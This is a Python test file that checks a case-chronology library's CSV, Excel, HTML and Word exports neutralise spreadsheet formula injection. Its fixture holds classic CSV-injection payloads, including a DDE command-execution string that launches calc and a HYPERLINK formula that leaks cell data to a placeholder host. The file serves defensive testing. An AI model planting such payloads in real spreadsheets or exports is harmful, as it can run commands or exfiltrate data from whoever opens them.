"""Exports hold 0 live formulas: text beginning with any formula character, ASCII or full-width (or
another compatibility form), in any text column, in a heading or in a source file name, is written
inert by every writer: CSV (a leading ``'``), Excel (stored as text with the quote prefix), HTML (an
invisible word joiner before it, so Excel opening the .html, or a table copied from the page and
pasted into a spreadsheet, keeps it as text). Word does not calculate text: there the check is that
no text becomes a field (Word's formulas, ``w:fldSimple`` / ``w:instrText``) and the text is kept
as written.
"""

from __future__ import annotations

import csv
import html.parser
import io
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest

import chronology as chron
from chronology.report._safe import FORMULA_PREFIXES, INERT_MARK

#: payloads a spreadsheet would run: each formula start, then the CSV-injection classics
STARTS = [p for p in FORMULA_PREFIXES if p not in "\r\n"]
PAYLOADS = [f"{p}1+1" for p in STARTS] + [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "\uff1dSUM(A1:A9)",
    "\uff0b44 7700 900123",
    "\uff20SUM(1+1)*cmd",
    "\uff0d2+3",
    "-10 mins late",
    "@mention of the lead",
]


@pytest.fixture(scope="module")
def hostile() -> chron.Chronology:
    n = len(PAYLOADS)
    return chron.Chronology.from_events(
        pd.DataFrame(
            {
                "case_id": ["k"] * n,
                "agency": ["police"] * n,
                "start": [f"{d % 28 + 1:02d}/03/2024" for d in range(n)],
                "description": PAYLOADS,
                "action": list(reversed(PAYLOADS)),
                "service": PAYLOADS,
                "practitioner": PAYLOADS,
                "child_voice": PAYLOADS,
                "\uff1dExtra": PAYLOADS,
            }
        ),
        source="=evil.csv",
    )


def _texts(c: chron.Chronology) -> set[str]:
    """The descriptions as read (cleaned: trimmed), each must reach every export."""
    texts = set(c.events["description"].tolist())
    assert sum(_live(t) for t in texts) >= len(STARTS), "the payloads survive reading"
    return texts


def _live(text: str) -> bool:
    """Whether a spreadsheet would evaluate a cell holding ``text``."""
    return text[:1] in FORMULA_PREFIXES


def test_csv_has_no_live_formula(hostile: chron.Chronology, tmp_path: Path) -> None:
    from chronology.report import to_csv

    path = to_csv(hostile, tmp_path / "out.csv")
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    cells = [c for r in rows for c in r]
    live = [c for c in cells if _live(c)]
    assert not live, live[:10]
    # every payload is there, neutralised, not dropped
    for p in _texts(hostile):
        assert ("'" + p if _live(p) else p) in cells, p


def test_excel_has_no_live_formula(hostile: chron.Chronology, tmp_path: Path) -> None:
    import openpyxl

    path = hostile.to_excel(tmp_path / "out.xlsx")
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert "<f>" not in z.read(name).decode("utf-8")
                assert "<f " not in z.read(name).decode("utf-8")
    wb = openpyxl.load_workbook(path)
    seen: set[str] = set()
    live = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                v = cell.value
                if cell.data_type == "f" or (isinstance(v, str) and _live(v) and not cell.quotePrefix):
                    live.append(f"{ws.title}!{cell.coordinate}={v!r}")
                if isinstance(v, str):
                    seen.add(v)
    assert not live, live[:10]
    assert _texts(hostile) <= seen


class _Cells(html.parser.HTMLParser):
    """The text of every table cell (td, th) of an HTML page."""

    def __init__(self) -> None:
        super().__init__()
        self.cells: list[str] = []
        self._cell: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("td", "th"):
            self._cell = []

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._cell.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self._cell is not None:
            self.cells.append("".join(self._cell))
            self._cell = None


def test_html_has_no_live_formula(hostile: chron.Chronology, tmp_path: Path) -> None:
    path = hostile.to_html(tmp_path / "out.html")
    p = _Cells()
    p.feed(path.read_text(encoding="utf-8"))
    assert len(p.cells) > len(PAYLOADS)
    live = [c for c in p.cells if _live(c.strip(" "))]
    assert not live, live[:10]
    # shown as written, behind the invisible mark
    shown = {c.replace(INERT_MARK, "") for c in p.cells}
    assert _texts(hostile) <= shown


def test_word_has_no_field_and_keeps_the_text(hostile: chron.Chronology, tmp_path: Path) -> None:
    import docx

    path = hostile.to_docx(tmp_path / "out.docx")
    document = docx.Document(str(path))
    cells = {c.text for t in document.tables for r in t.rows for c in r.cells}
    assert _texts(hostile) <= cells
    with zipfile.ZipFile(path) as z:
        body = z.read("word/document.xml").decode("utf-8")
    table_xml = "".join(re.findall(r"<w:tbl>.*?</w:tbl>", body, flags=re.S))
    assert table_xml
    assert "fldSimple" not in table_xml, "a Word field in the table"
    assert "instrText" not in table_xml, "a Word field code in the table"
